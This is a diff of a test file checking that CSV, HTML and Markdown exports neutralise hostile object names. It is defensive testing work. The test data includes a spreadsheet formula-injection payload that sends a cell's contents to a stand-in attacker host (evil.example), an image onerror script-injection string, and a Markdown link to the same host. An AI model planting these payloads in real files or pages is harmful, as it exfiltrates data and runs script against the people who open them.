@@ -78,10 +78,10 @@ describe('output built from hostile object names', () => {
       expect(row).toHaveLength(4);
       for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
-    // every id survives whole, behind the apostrophe that makes a spreadsheet show it as text
+    // every id survives whole, behind the apostrophe that makes a spreadsheet show it as text, its line break shown as \u000a
     const cells = new Set(rows.flat());
     for (const name of hostileNames) {
-      const id = `${name}/${name}[Pod]`;
+      const id = `${name}/${name}[Pod]`.replace(/\n/g, '\\u000a');
       expect(cells.has(id) || cells.has(`'${id}`), id).toBe(true);
     }
     expect(cells).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")/=HYPERLINK("http://evil.example/?leak="&A1,"click")[Pod]`);
@@ -103,7 +103,7 @@ describe('output built from hostile object names', () => {
     expect(text).toContain('&lt;img src=x onerror=alert(1)&gt;/&lt;img src=x onerror=alert(1)&gt;[Pod]');
     expect(text).toContain('back\\\\slash\\|/back\\\\slash\\|[Pod]');
     expect(text).toContain('line break/line break[Pod]');
-    expect(text).toContain('[click]\\(http://evil.example)/');
+    expect(text).toContain('[click]\\(http:\u200d//evil.example)/');
   });
 
   it('JSON: the names come back exactly, whatever they contain', async () => {
